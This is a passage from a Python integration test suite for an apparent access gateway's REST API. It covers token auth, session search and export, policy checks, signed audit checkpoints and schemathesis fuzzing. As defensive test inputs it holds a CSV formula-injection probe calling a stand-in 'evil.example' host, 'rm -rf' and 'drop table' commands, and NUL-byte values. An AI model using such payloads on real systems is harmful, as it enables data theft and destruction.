"""The REST API against a real gateway process with real recorded traffic, on a SQLite
and on a PostgreSQL store: every endpoint as a human and as an agent, no credential
anywhere in any response, and a schemathesis run over every operation of the OpenAPI
document (the review side with reviews of every kind and state)."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import re
import textwrap
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import hypothesis
import psycopg
import pytest
import schemathesis
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import (
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
)
from schemathesis import GenerationMode
from schemathesis.checks import not_a_server_error
from schemathesis.core.result import Ok
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    negative_data_rejection,
    response_schema_conformance,
    status_code_conformance,
)

from tests.conftest import PG_HOST, PG_PORT, PG_USER
from tests.integration.conftest import (
    Gateway,
    free_port,
    make_gateway,
    scratch_database,
)
from tests.integration.test_reviews import review_config

pytestmark = pytest.mark.integration

PG_SECRET_ENV = "WARDGATE_API_TEST_PG_SECRET"
PG_SECRET = "pg-secret-value-4f1c9e"
SECRET_REFS = (f"env:{PG_SECRET_ENV}", "file:/nonexistent/web_key", "secret:web-pass")
# The audit checkpoint key, as a base64 seed in the environment: it signs, and never
# comes out of the API.
CP_KEY_ENV = "WARDGATE_API_TEST_CHECKPOINT_KEY"
CP_PRIVATE = Ed25519PrivateKey.generate()
CP_SEED = base64.b64encode(
    CP_PRIVATE.private_bytes(Encoding.Raw, PrivateFormat.Raw, NoEncryption())
).decode()
CP_PUBLIC = base64.b64encode(
    CP_PRIVATE.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
).decode()
HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"


def api_config(database: str) -> str:
    """The review test configuration plus a PostgreSQL connection whose password is a
    reference and an SSH connection with key and password references: what must never
    come out of the API."""
    extra = textwrap.indent(
        textwrap.dedent(
            f"""\
            vault:
              type: postgres
              description: credential held by the gateway
              upstream: {{host: 127.0.0.1, port: {free_port()}, database: x, user: app, password: "env:{PG_SECRET_ENV}", tls: disable}}
              roles: {{engineers: engineer}}
            web:
              type: ssh
              upstream: {{host: 127.0.0.1, port: 22, user: deploy, private_key: "file:/nonexistent/web_key", password: "secret:web-pass", host_key: "{HOST_KEY}"}}
              roles: {{engineers: engineer}}
            """
        ),
        "  ",
    )
    text = review_config(database).replace("connections:\n", "connections:\n" + extra, 1)
    text += (
        f"audit:\n  checkpoint: {{key: 'env:{CP_KEY_ENV}', interval: 1s}}\n"
        "  sink: {file: audit-copy.jsonl, interval: 200ms}\n"
    )
    return text.replace(
        "guardrails:\n",
        "guardrails:\n  - {name: no-rm, match: {programs: [rm]}, verdict: block}\n",
        1,
    )


class Client:
    """The REST API as one principal; every response body is checked for secrets."""

    def __init__(self, gw: Gateway, principal: str | None, forbidden: list[str]) -> None:
        headers = {"Authorization": f"Bearer {gw.token(principal)}"} if principal else {}
        self.http = httpx.Client(
            base_url=f"http://127.0.0.1:{gw.api_port}", headers=headers, timeout=30
        )
        self.forbidden = forbidden

    def request(self, method: str, path: str, **kwargs: Any) -> httpx.Response:
        r = self.http.request(method, path, **kwargs)
        assert_no_secret(r.text, self.forbidden)
        return r

    def get(self, path: str, expect: int = 200, **params: Any) -> Any:
        r = self.request("GET", "/api/v1" + path, params=params)
        assert r.status_code == expect, r.text
        return r.json()

    def post(self, path: str, body: Any = None, expect: int = 200) -> Any:
        r = self.request("POST", "/api/v1" + path, json=body)
        assert r.status_code == expect, r.text
        return r.json()


def assert_no_secret(text: str, forbidden: list[str]) -> None:
    lowered = text.lower()
    for word in ("password", "private_key"):
        assert word not in lowered, f"{word!r} in a response: {text[:2000]}"
    for secret in forbidden:
        assert secret not in text, f"a secret ({secret[:6]}...) in a response"


class Env:
    def __init__(self, gw: Gateway) -> None:
        self.gw = gw
        self.tokens = {p: gw.token(p) for p in ("agent", "dev", "reviewer", "outsider")}
        master = (gw.workdir / ".wardgate" / "master.key").read_text().strip()
        assert master
        self.forbidden = [master, PG_SECRET, CP_SEED, *SECRET_REFS, *self.tokens.values()]
        self.clients: list[Client] = []

    def api(self, principal: str | None) -> Client:
        client = Client(self.gw, principal, self.forbidden)
        self.clients.append(client)
        return client

    def sessions_of(self, principal: str) -> list[dict[str, Any]]:
        found: list[dict[str, Any]] = self.api("reviewer").get(
            "/sessions", principal=principal, connection="it"
        )["sessions"]
        return found


def _traffic(gw: Gateway) -> None:
    """An agent session with an allowed read, a held write and a blocked DDL; a dev
    session with a read and a blocked unbounded DELETE."""
    with psycopg.connect(gw.dsn("agent"), autocommit=True) as conn:
        conn.execute("select 1 as one").fetchall()
        with pytest.raises(psycopg.Error) as held:
            conn.execute("update api_items set qty = 1 where id = 1")
        assert held.value.diag.sqlstate == "55000"
        with pytest.raises(psycopg.Error) as blocked:
            conn.execute("drop table api_items")
        assert blocked.value.diag.sqlstate == "42501"
    with psycopg.connect(gw.dsn("dev"), autocommit=True) as conn:
        conn.execute("create table if not exists api_items (id int primary key, qty int)")
        conn.execute("select count(*) from api_items").fetchall()
        with pytest.raises(psycopg.Error):
            conn.execute("delete from api_items")


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def store_url(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """Every test against both stores: their SQL differs (LIKE, NUL bytes, JSON text)."""
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path_factory.mktemp('store') / 'store.db'}"
        return
    with scratch_database("wardgate_api_store_") as name:
        yield f"postgresql://{PG_USER}@{PG_HOST}:{PG_PORT}/{name}"


@pytest.fixture(scope="module")
def env(
    it_database: str, store_url: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Env]:
    gw = make_gateway(tmp_path_factory.mktemp("api"), api_config(it_database), store=store_url)
    gw.env[PG_SECRET_ENV] = PG_SECRET
    gw.env[CP_KEY_ENV] = CP_SEED
    gw.start()
    try:
        with psycopg.connect(gw.dsn("dev"), autocommit=True) as conn:
            conn.execute("create table if not exists api_items (id int primary key, qty int)")
        _traffic(gw)
        e = Env(gw)
        deadline = time.monotonic() + 15
        while True:  # the recorder writes in the background
            agent, dev = e.sessions_of("agent"), e.sessions_of("dev")
            signed = e.api("reviewer").request("GET", "/api/v1/audit/checkpoint")
            if (
                sum(s["action_count"] for s in agent) >= 3
                and any(s["blocked_count"] for s in dev)
                and signed.status_code == 200
            ):
                break
            assert time.monotonic() < deadline, (agent, dev)
            time.sleep(0.2)
        yield e
        for client in e.clients:
            client.http.close()
    finally:
        gw.stop()


# -- authentication ---------------------------------------------------------------------

GET_PATHS = (
    "/connections",
    "/connections/it",
    "/principals",
    "/principals/dev",
    "/tokens",
    "/sessions",
    "/sessions/x",
    "/sessions/x/export",
    "/audit/verify",
    "/audit/checkpoint",
)


# Answered without a token: how a human gets a credential by single sign-on.
SIGN_IN = ("/api/v1/auth/oidc", "/api/v1/auth/oidc/session")


def test_every_endpoint_needs_a_token(env: Env) -> None:
    """Every operation of the OpenAPI document under /api/v1, with or without a body."""
    anonymous = env.api(None)
    document = anonymous.request("GET", "/openapi.json").json()
    checked = 0
    for template, item in document["paths"].items():
        if not template.startswith("/api/v1/") or template in SIGN_IN:
            continue
        path = re.sub(r"\{[a-z_]+\}", "x", template)
        for method in item:
            r = anonymous.request(method.upper(), path, json={} if method == "post" else None)
            assert r.status_code == 401, (method, path, r.text)
            assert r.headers["content-type"] == "application/problem+json"
            assert r.headers["www-authenticate"].startswith("Bearer")
            assert r.json()["status"] == 401
            checked += 1
    assert checked >= 25
    # one wrong token only: five failures from an address lock it out for a minute
    wrong = anonymous.request(
        "GET", "/api/v1/connections", headers={"Authorization": "Bearer wg_not-a-token"}
    )
    assert wrong.status_code == 401


# -- connections ------------------------------------------------------------------------


def test_connections_show_upstreams_without_credentials(env: Env) -> None:
    listed = {c["name"]: c for c in env.api("dev").get("/connections")["connections"]}
    assert set(listed) == {"it", "down", "vault", "web"}
    it = listed["it"]
    assert it["type"] == "postgres" and it["mode"] == "enforce"
    assert set(it["upstream"]) == {"type", "host", "port", "database", "user"}
    assert it["your_roles"] == ["engineer"] and it["granted_roles"] == []
    assert it["roles"] == {"agents": "proposer", "engineers": "engineer"}
    assert it["reviews"] == {"wait": 0.0, "max_wait": 30.0, "preview": "rollback"}
    assert it["grantable_roles"] == ["engineer"]
    assert listed["vault"]["description"] == "credential held by the gateway"
    web = listed["web"]["upstream"]
    assert web == {
        "type": "ssh",
        "host": "127.0.0.1",
        "port": 22,
        "user": "deploy",
        "host_key": HOST_KEY,
    }
    agent_view = {c["name"]: c for c in env.api("agent").get("/connections")["connections"]}
    assert agent_view["it"]["your_roles"] == ["proposer"]
    assert agent_view["web"]["your_roles"] == []


def test_connection_detail_has_the_effective_policy(env: Env) -> None:
    api = env.api("agent")
    it = api.get("/connections/it")
    roles = {r["name"]: r for r in it["policy"]["roles"]}
    assert set(roles) == {"engineer", "proposer"}
    assert roles["proposer"]["groups"] == ["agents"] and not roles["proposer"]["grantable"]
    assert roles["engineer"]["grantable"]
    assert {k: roles["proposer"][k] for k in ("read", "write", "ddl", "admin", "shell")} == {
        "read": "allow",
        "write": "review",
        "ddl": "block",
        "admin": "block",
        "shell": "block",
    }
    rails = {g["name"]: g for g in it["policy"]["guardrails"]}
    assert set(rails) == {"no-drop", "delete-needs-where"}  # no-rm is about commands
    assert rails["no-drop"]["match"]["sql"] == ["drop", "truncate"]
    assert rails["no-drop"]["verdict"] == "block"
    assert rails["no-drop"]["message"] == "Destructive DDL is blocked"
    web = api.get("/connections/web")
    assert [g["name"] for g in web["policy"]["guardrails"]] == ["no-rm"]
    missing = api.get("/connections/nope", expect=404)
    assert missing["status"] == 404 and "nope" in missing["detail"]


# -- principals -------------------------------------------------------------------------


def test_principals_humans_see_all_agents_see_themselves(env: Env) -> None:
    everyone = env.api("reviewer").get("/principals")["principals"]
    assert [p["name"] for p in everyone] == ["agent", "dev", "outsider", "reviewer"]
    assert env.api("dev").get("/principals/agent") == {
        "name": "agent",
        "kind": "agent",
        "groups": ["agents"],
        "sponsor": "dev",
    }
    agent = env.api("agent")
    assert [p["name"] for p in agent.get("/principals")["principals"]] == ["agent"]
    assert agent.get("/principals/agent")["sponsor"] == "dev"
    agent.get("/principals/dev", expect=404)
    env.api("dev").get("/principals/nobody", expect=404)


# -- tokens -----------------------------------------------------------------------------


def test_tokens_are_listed_and_revoked_by_their_owner_only(env: Env) -> None:
    out = env.gw.cli("token", "create", "outsider", "--name", "spare").stdout
    spare = out.strip().splitlines()[-1]
    env.forbidden.append(spare)
    owner = env.api("outsider")
    tokens = owner.get("/tokens")["tokens"]
    assert {t["name"] for t in tokens} >= {"spare"}
    assert sum(t["current"] for t in tokens) == 1
    spare_id = next(t["id"] for t in tokens if t["name"] == "spare")
    assert all(set(t) == set(tokens[0]) for t in tokens)
    assert "token" not in tokens[0] and "lookup" not in tokens[0]

    # someone else's token: 404, as if it did not exist; nothing revoked
    env.api("reviewer").post(f"/tokens/{spare_id}/revoke", expect=404)
    env.api("agent").post(f"/tokens/{spare_id}/revoke", expect=404)
    owner.post("/tokens/tok_nosuchtoken/revoke", expect=404)
    with httpx.Client(base_url=f"http://127.0.0.1:{env.gw.api_port}") as raw:
        spare_auth = {"Authorization": f"Bearer {spare}"}
        assert raw.get("/api/v1/whoami", headers=spare_auth).status_code == 200

        revoked = owner.post(f"/tokens/{spare_id}/revoke")
        assert revoked["id"] == spare_id and not revoked["active"] and revoked["revoked_at"]
        assert owner.post(f"/tokens/{spare_id}/revoke")["revoked_at"] == revoked["revoked_at"]
        assert raw.get("/api/v1/whoami", headers=spare_auth).status_code == 401
    still = {t["id"]: t for t in owner.get("/tokens")["tokens"]}
    assert not still[spare_id]["active"]
    assert all(t["active"] for i, t in still.items() if i != spare_id)


# -- sessions ---------------------------------------------------------------------------


def test_sessions_list_filters_and_visibility(env: Env) -> None:
    human = env.api("reviewer")
    everything = human.get("/sessions")["sessions"]
    assert {"agent", "dev"} <= {s["principal"] for s in everything}
    starts = [s["started_at"] for s in everything]
    assert starts == sorted(starts, reverse=True)
    agent_sessions = human.get("/sessions", principal="agent", protocol="postgres")["sessions"]
    assert agent_sessions and all(s["principal"] == "agent" for s in agent_sessions)
    assert agent_sessions[0]["sponsor"] == "dev" and agent_sessions[0]["principal_kind"] == "agent"
    assert human.get("/sessions", protocol="ssh")["sessions"] == []
    assert human.get("/sessions", status="closed", connection="it")["sessions"]
    assert human.get("/sessions", connection="down")["sessions"] == []
    assert len(human.get("/sessions", limit=1)["sessions"]) == 1

    # an agent sees only its own, whatever it asks for
    agent = env.api("agent")
    own = agent.get("/sessions")["sessions"]
    assert own and {s["principal"] for s in own} == {"agent"}
    assert agent.get("/sessions", principal="dev")["sessions"] == []
    assert agent.get("/sessions/" + env.sessions_of("dev")[0]["id"], expect=404)
    human.get("/sessions/no-such-session", expect=404)


def test_sessions_time_and_verdict_filters(env: Env) -> None:
    human = env.api("reviewer")
    newest = human.get("/sessions")["sessions"][0]["started_at"]
    assert human.get("/sessions", since="2999-01-01T00:00:00Z")["sessions"] == []
    assert human.get("/sessions", until="2000-01-01T00:00:00")["sessions"] == []
    assert human.get("/sessions", since=newest - 1)["sessions"]  # epoch seconds work too

    def who(verdict: str) -> set[str]:
        body = human.get("/sessions", verdict=verdict, connection="it")
        assert body["complete"]
        return {s["principal"] for s in body["sessions"]}

    assert who("review") == {"agent"}  # only the agent's write was held
    assert who("block") == {"agent", "dev"}
    assert who("allow") == {"agent", "dev"}
    assert env.api("agent").get("/sessions", verdict="block")["sessions"]

    for bad in (
        {"verdict": "maybe"},
        {"limit": 0},
        {"limit": 1001},
        {"since": "yesterday"},
        {"since": "2030-01-01T00:00:00Z", "until": "2020-01-01T00:00:00Z"},
        {"protocol": "Post Gres"},
    ):
        problem = human.get("/sessions", expect=422, **bad)
        assert problem["status"] == 422 and problem["detail"].startswith("invalid request")


def test_sessions_free_text_search(env: Env) -> None:
    """q: a session id prefix, or part of the principal, connection or application name;
    case-insensitive, with % and _ taken literally."""
    with psycopg.connect(env.gw.dsn("dev", application_name="Nightly_Report")) as conn:
        conn.execute("select 1").fetchall()
    human = env.api("reviewer")

    def found(q: str, **params: Any) -> list[dict[str, Any]]:
        body = human.get("/sessions", q=q, **params)
        assert body["complete"]
        sessions: list[dict[str, Any]] = body["sessions"]
        return sessions

    deadline = time.monotonic() + 10
    while not (nightly := found("nightly_REP")):  # the recorder writes in the background
        assert time.monotonic() < deadline
        time.sleep(0.2)
    assert [s["application_name"] for s in nightly] == ["Nightly_Report"]
    assert nightly[0]["principal"] == "dev"
    assert found("ly_r") == nightly and found("ly%r") == [] and found("ly r") == []
    assert found("ly_r", principal="agent") == []  # with the other filters, not instead

    one = nightly[0]["id"]
    assert [s["id"] for s in found(one.upper()[:10])] == [one]  # an id prefix...
    assert found(one[2:10]) == []  # ...not any part of it
    everything = human.get("/sessions")["sessions"]
    assert found("s_") == everything and found("  ") == everything
    assert {s["principal"] for s in found("AGEN")} == {"agent"}
    assert {s["connection"] for s in found("i")} == {"it"}
    assert found("it", verdict="review") == human.get("/sessions", verdict="review")["sessions"]

    agent = env.api("agent")
    assert agent.get("/sessions", q="nightly")["sessions"] == []  # not its own
    assert agent.get("/sessions", q="agent")["sessions"]
    problem = human.get("/sessions", expect=422, q="x" * 101)
    assert problem["detail"].startswith("invalid request: query.q")


def test_text_with_a_nul_is_refused(env: Env) -> None:
    """No text the API takes may hold a NUL (a PostgreSQL store cannot keep one) or a
    lone surrogate (UTF-8 cannot encode one): 422, never a 500."""
    api = env.api("agent")
    for method, path, params, body in (
        ("GET", "/reviews/r_%00", None, None),
        ("POST", "/reviews/r_%00/approve", None, None),
        ("POST", "/reviews/r_%00/use", None, None),
        ("POST", "/grants/r_%00/revoke", None, {"reason": "x"}),
        ("GET", "/proposals/r_%00", None, None),
        ("GET", "/sessions/s_%00", None, None),
        ("GET", "/sessions/s_%00/export", None, None),
        ("POST", "/tokens/tok_%00/revoke", None, None),
        ("GET", "/connections/it%00", None, None),
        ("GET", "/sessions", {"principal": "a\x00"}, None),
        ("GET", "/sessions", {"q": "\x00", "verdict": "allow"}, None),
        ("GET", "/reviews", {"connection": "it\x00"}, None),
        ("POST", "/reviews", None, {"code": "print(1)\x00"}),
        ("POST", "/reviews", None, {"code": "print(1)", "justification": "\ud800"}),
        ("POST", "/reviews/r_x/deny", None, {"reason": "\x00"}),
        ("POST", "/grants", None, {"connection": "it", "role": "engineer", "duration": 60,
                                   "reason": "why\x00"}),
        ("POST", "/proposals", None, {"connection": "it", "statements": ["select '\x00'"],
                                      "justification": "why"}),
        ("POST", "/policy/check", None, {"connection": "it", "text": "select '\x00'"}),
        ("POST", "/policy/check", None, {"connection": "it\ud800", "text": "select 1"}),
    ):  # fmt: skip
        r = api.request(
            method,
            "/api/v1" + path,
            params=params,
            content=None if body is None else json.dumps(body),  # ASCII: a surrogate stays escaped
            headers={"content-type": "application/json"},
        )
        assert r.status_code == 422, (path, params, body, r.text)
        assert r.headers["content-type"] == "application/problem+json"


def test_session_detail_has_actions_and_review_events(env: Env) -> None:
    session_id = next(s["id"] for s in env.sessions_of("agent") if s["action_count"] >= 3)
    detail = env.api("agent").get(f"/sessions/{session_id}")
    assert detail["principal"] == "agent" and detail["protocol"] == "postgres"
    by_text = {a["text"]: a for a in detail["actions"]}
    read = by_text["select 1 as one"]
    assert read["verdict"]["decision"] == "allow" and read["status"] == "ok"
    assert read["rows"] == 1 and read["duration_ms"] is not None and read["params"] == []
    assert read["statements"][0]["class"] == "read"
    held = by_text["update api_items set qty = 1 where id = 1"]
    assert held["verdict"]["decision"] == "review" and held["status"] == "blocked"
    dropped = by_text["drop table api_items"]
    assert dropped["verdict"]["decision"] == "block"
    assert "guardrail:no-drop" in dropped["verdict"]["rules"]
    requested = [r for r in detail["reviews"] if r["type"] == "review.requested"]
    assert requested and requested[0]["review"].startswith("r_")
    assert requested[0]["review_kind"] == "action" and requested[0]["by"] == "agent"
    assert requested[0]["details"]["text"] == held["text"]
    review_id = requested[0]["review"]
    assert held["verdict"]["rule"] == f"review:{review_id}"  # the review that held it

    # a decided review adds its vote and decision to the session's timeline
    env.api("reviewer").post(f"/reviews/{review_id}/approve", {"reason": "checked"})
    deadline = time.monotonic() + 10
    while True:
        events = env.api("dev").get(f"/sessions/{session_id}")["reviews"]
        if any(e["type"] == "review.approved" for e in events) or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    by_type = {e["type"]: e for e in events}
    assert by_type["review.vote.approve"]["by"] == "reviewer"
    assert by_type["review.vote.approve"]["details"]["reason"] == "checked"
    assert by_type["review.approved"]["by"] == "reviewer"  # the actor, never the payload's
    assert by_type["review.approved"]["details"]["voters"] == ["reviewer"]


def test_session_export_streams_jsonl_and_csv(env: Env) -> None:
    session_id = next(s["id"] for s in env.sessions_of("agent") if s["action_count"] >= 3)
    api = env.api("agent")
    detail = api.get(f"/sessions/{session_id}")
    r = api.request("GET", f"/api/v1/sessions/{session_id}/export")
    assert r.status_code == 200 and r.headers["content-type"] == "application/x-ndjson"
    assert session_id in r.headers["content-disposition"]
    lines = [json.loads(line) for line in r.text.splitlines()]
    assert lines == detail["actions"]

    r = api.request("GET", f"/api/v1/sessions/{session_id}/export", params={"format": "csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [int(row["id"]) for row in rows] == [a["id"] for a in detail["actions"]]
    assert [row["decision"] for row in rows] == [
        a["verdict"]["decision"] for a in detail["actions"]
    ]
    assert rows[0]["params"] == "[]"

    dev_session = env.sessions_of("dev")[0]["id"]
    assert api.request("GET", f"/api/v1/sessions/{dev_session}/export").status_code == 404
    bad = api.request("GET", f"/api/v1/sessions/{session_id}/export", params={"format": "xml"})
    assert bad.status_code == 422


def test_csv_export_cannot_carry_a_formula(env: Env) -> None:
    """Recorded text is the client's: a statement may start with `-`, `=`, `@`..., and
    a spreadsheet opening the export must show it as text, not run it."""
    statement = '-- =HYPERLINK("http://evil.example/?"&A1)\nselect 1 as formula_probe'
    dsn = env.gw.dsn("dev")
    with psycopg.connect(dsn, autocommit=True, application_name="formula_probe") as conn:
        conn.execute(statement).fetchall()
    dev = env.api("dev")
    deadline = time.monotonic() + 15
    while True:
        found = dev.get("/sessions", principal="dev", q="formula_probe")["sessions"]
        if found or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert found, "the statement was not recorded"
    r = dev.request("GET", f"/api/v1/sessions/{found[0]['id']}/export", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    texts = [row["text"] for row in rows if "formula_probe" in row["text"]]
    assert texts == ["'" + statement], texts
    for row in rows:  # no cell of the export starts a formula
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


# -- policy check -----------------------------------------------------------------------


def test_policy_check(env: Env) -> None:
    dev = env.api("dev")
    ok = dev.post("/policy/check", {"connection": "it", "text": "select * from api_items"})
    assert ok["decision"] == "allow" and ok["rule"] == "role:engineer" and ok["principal"] == "dev"
    assert ok["statements"][0]["class"] == "read"
    assert ok["statements"][0]["tables_read"] == ["api_items"]
    drop = dev.post("/policy/check", {"connection": "it", "text": "select 1; drop table t"})
    assert drop["decision"] == "block" and drop["rule"] == "guardrail:no-drop"
    assert [s["class"] for s in drop["statements"]] == ["read", "ddl"]
    assert "drop" in drop["statements"][1]["kinds"]
    fn = dev.post("/policy/check", {"connection": "it", "text": "select pg_terminate_backend(1)"})
    assert "pg_terminate_backend" in fn["statements"][0]["functions"]

    as_agent = env.api("reviewer").post(
        "/policy/check",
        {"connection": "it", "principal": "agent", "text": "update t set a = 1 where id = 2"},
    )
    assert as_agent["decision"] == "review" and as_agent["rules"] == ["role:proposer"]
    shell = dev.post("/policy/check", {"connection": "web", "text": "rm -rf /tmp/x"})
    assert shell["decision"] == "block" and "guardrail:no-rm" in shell["rules"]

    agent = env.api("agent")
    assert agent.post("/policy/check", {"connection": "it", "text": "select 1"})["principal"] == (
        "agent"
    )
    agent.post(
        "/policy/check", {"connection": "it", "principal": "dev", "text": "select 1"}, expect=403
    )
    dev.post("/policy/check", {"connection": "nope", "text": "select 1"}, expect=404)
    dev.post("/policy/check", {"connection": "it", "principal": "nobody", "text": "x"}, expect=404)
    dev.post("/policy/check", {"text": "select 1"}, expect=422)


# -- audit ------------------------------------------------------------------------------


def test_audit_verify(env: Env) -> None:
    result = env.api("reviewer").get("/audit/verify")
    assert result["ok"] is True and result["checked"] > 5
    assert result["first_bad_id"] is None and result["reason"] is None
    forbidden = env.api("agent").get("/audit/verify", expect=403)
    assert forbidden["status"] == 403


def test_audit_checkpoint_signed_by_the_gateway_and_verified(env: Env) -> None:
    """worker 0 signs the head every second with the key from the environment; the
    exported checkpoint verifies, an altered one does not, and agents get neither."""
    human = env.api("reviewer")
    cp = human.get("/audit/checkpoint")
    assert cp["seq"] >= 1 and len(cp["head_hash"]) == 64 and cp["signature"]
    body = {"checkpoint": cp, "public_key": CP_PUBLIC}
    ok = human.post("/audit/verify", body)
    assert ok["ok"] is True and "match the checkpoint" in ok["reason"]
    altered = {**cp, "head_hash": "0" * 64}
    bad = human.post("/audit/verify", {"checkpoint": altered, "public_key": CP_PUBLIC})
    assert bad["ok"] is False and "signature does not verify" in bad["reason"]
    human.post("/audit/verify", {"checkpoint": cp, "public_key": "nope"}, expect=422)
    env.api("agent").get("/audit/checkpoint", expect=403)
    env.api("agent").post("/audit/verify", body, expect=403)


def test_audit_sink_copies_the_chain_outside_the_store(env: Env) -> None:
    """Worker 0 copies every event, and each signed checkpoint, to the JSON-lines file;
    `audit verify --sink` finds the store and the copy in agreement."""
    path = env.gw.config_path.parent / "audit-copy.jsonl"
    deadline = time.monotonic() + 10
    while True:
        lines = [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines()]
        events = [x for x in lines if "hash" in x]
        if any("checkpoint" in x for x in lines) and len(events) >= 5:
            break
        assert time.monotonic() < deadline, lines[-3:]
        time.sleep(0.2)
    assert [e["id"] for e in events] == list(range(1, len(events) + 1))
    assert {"session.start", "action"} <= {e["type"] for e in events}
    copied = path.read_text(encoding="utf-8")
    assert not [s[:6] for s in env.forbidden if s in copied]
    checked = env.gw.cli("audit", "verify", "--sink", str(path))
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert "DIFFERS" not in checked.stdout


def test_no_response_carries_a_secret(env: Env) -> None:
    """Every endpoint, as a human and as an agent (each Client call scans its body),
    plus the OpenAPI document itself."""
    session_id = env.sessions_of("agent")[0]["id"]
    for who in ("reviewer", "agent"):
        api = env.api(who)
        for path in GET_PATHS:
            api.request("GET", "/api/v1" + path.replace("/x", f"/{session_id}"))
        for name in ("vault", "web", "down"):
            api.request("GET", f"/api/v1/connections/{name}")
        api.request("GET", f"/api/v1/sessions/{session_id}/export", params={"format": "csv"})
        api.request("POST", "/api/v1/policy/check", json={"connection": "vault", "text": "x"})
    openapi = env.api(None).request("GET", "/openapi.json")
    assert openapi.status_code == 200


# -- schemathesis -----------------------------------------------------------------------

# Generated requests per operation, principal and generation mode (valid, then invalid
# requests), per store. CI runs a bounded sample (each operation's request that must
# succeed runs whatever the count); scripts/generated_suites.py runs the full count.
EXAMPLES = int(os.environ.get("WARDGATE_API_EXAMPLES", "1" if os.environ.get("CI") else "15"))
FUZZERS = ("reviewer", "agent")  # a human approver and an agent with a sponsor
CHECKS: list[Any] = [
    negative_data_rejection,  # an invalid request gets a 4xx (for generated invalid ones)
    not_a_server_error,
    status_code_conformance,
    content_type_conformance,
    response_schema_conformance,
]
HTTP_METHODS = {"get", "put", "post", "delete", "patch", "head", "options", "trace"}


@dataclass
class Known:
    """One request that must succeed, with real ids: every operation's 2xx answer is
    checked against its schema at least once, not only its errors (a few operations
    cannot succeed in this configuration: their expected refusal instead)."""

    principal: str
    path: dict[str, str] = field(default_factory=dict)
    query: dict[str, Any] = field(default_factory=dict)
    body: Any = None
    status: int = 200


class ReviewData:
    """Reviews of every kind in several states, for the happy paths and as path
    parameters the fuzzer picks from (random ids would only ever find 404s)."""

    def __init__(self, env: Env) -> None:
        agent, human = env.api("agent"), env.api("reviewer")

        def code(what: str) -> str:
            body = {"code": f"print({what!r})", "justification": "fuzz", "context": "api test"}
            review_id: str = agent.post("/reviews", body, expect=201)["id"]
            return review_id

        self.to_approve, self.to_deny, self.to_cancel = code("a"), code("d"), code("c")
        self.checkpoint: dict[str, Any] = human.get("/audit/checkpoint")
        self.to_use = code("u")
        human.post(f"/reviews/{self.to_use}/approve", {"reason": "ok"})
        grant = {"connection": "it", "role": "engineer", "duration": "10m", "reason": "fuzz"}
        self.grant: str = agent.post("/grants", grant, expect=201)["id"]
        human.post(f"/reviews/{self.grant}/approve")
        proposal = {
            "connection": "it",
            "statements": ["update api_items set qty = 3 where id = 3"],
            "justification": "fuzz",
        }
        self.proposal: str = agent.post("/proposals", proposal, expect=201)["id"]
        self.pending_proposal: str = agent.post("/proposals", proposal, expect=201)["id"]
        self.denied = code("n")
        human.post(f"/reviews/{self.denied}/deny", {"reason": "no"})
        out = env.gw.cli("token", "create", "reviewer", "--name", "fuzz-spare").stdout
        spare = out.strip().splitlines()[-1]
        env.forbidden.append(spare)
        self.spare_token: str = next(
            t["id"] for t in human.get("/tokens")["tokens"] if t["name"] == "fuzz-spare"
        )
        self.agent_session: str = env.sessions_of("agent")[0]["id"]
        self.dev_session: str = env.sessions_of("dev")[0]["id"]
        self.reviews = [
            self.to_approve, self.to_deny, self.to_cancel, self.to_use, self.grant,
            self.proposal, self.pending_proposal, self.denied,
        ]  # fmt: skip

    def known(self) -> dict[str, Known]:
        """One request per operation of the OpenAPI document that must succeed."""
        v1 = "/api/v1"
        r = self
        return {
            "GET /healthz": Known("reviewer"),
            f"GET {v1}/whoami": Known("agent"),
            f"GET {v1}/connections": Known("agent"),
            f"GET {v1}/connections/{{name}}": Known("reviewer", {"name": "web"}),
            f"GET {v1}/principals": Known("reviewer"),
            f"GET {v1}/principals/{{name}}": Known("agent", {"name": "agent"}),
            f"GET {v1}/tokens": Known("reviewer"),
            f"POST {v1}/tokens/{{token_id}}/revoke": Known("reviewer", {"token_id": r.spare_token}),
            f"GET {v1}/sessions": Known("reviewer", query={"q": "AGE", "verdict": "review"}),
            f"GET {v1}/sessions/{{session_id}}": Known("agent", {"session_id": r.agent_session}),
            f"GET {v1}/sessions/{{session_id}}/export": Known(
                "reviewer", {"session_id": r.dev_session}, {"format": "csv"}
            ),
            f"POST {v1}/policy/check": Known(
                "agent", body={"connection": "it", "text": "update t set a = 1 where id = 1"}
            ),
            f"GET {v1}/audit/verify": Known("reviewer"),
            f"GET {v1}/audit/checkpoint": Known("reviewer"),
            f"POST {v1}/audit/verify": Known(
                "reviewer", body={"checkpoint": r.checkpoint, "public_key": CP_PUBLIC}
            ),
            f"GET {v1}/reviews": Known("reviewer", query={"status": "pending", "kind": "code"}),
            f"POST {v1}/reviews": Known(
                "agent", body={"code": "print('new')", "justification": "why"}, status=201
            ),
            f"GET {v1}/reviews/{{review_id}}": Known("agent", {"review_id": r.denied}),
            f"POST {v1}/reviews/{{review_id}}/approve": Known(
                "reviewer", {"review_id": r.to_approve}, body={"reason": "fine"}
            ),
            f"POST {v1}/reviews/{{review_id}}/deny": Known("reviewer", {"review_id": r.to_deny}),
            f"POST {v1}/reviews/{{review_id}}/use": Known("agent", {"review_id": r.to_use}),
